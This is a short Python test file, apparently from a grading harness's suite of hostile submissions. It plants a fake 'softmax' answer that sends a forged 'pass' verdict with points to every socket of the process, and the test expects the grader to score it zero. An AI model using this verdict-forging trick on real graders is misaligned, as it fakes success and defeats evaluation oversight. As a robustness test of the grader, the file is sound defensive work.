"""Writes an answer of its own, with points in it, to every socket of its process while it is being called."""

from tests.hostile.attack_tools import put

POINTS = {"softmax": (0, {"fail", "died"})}

CODE = """
import json, os, socket, stat, struct

ANSWER = ["dict", ["op", "verdict"], ["exercise", "softmax"], ["points", 2], ["status", "pass"], ["value", True]]

def softmax(z, axis=-1):
    header = json.dumps(ANSWER).encode()
    frame = struct.pack(">4sIQ", b"RNN1", len(header), 0) + header
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                socket.socket(fileno=os.dup(descriptor)).send(frame, socket.MSG_DONTWAIT)
        except OSError:
            pass
    return 0.0
"""


def make(nb):
    put(nb, "softmax", CODE)
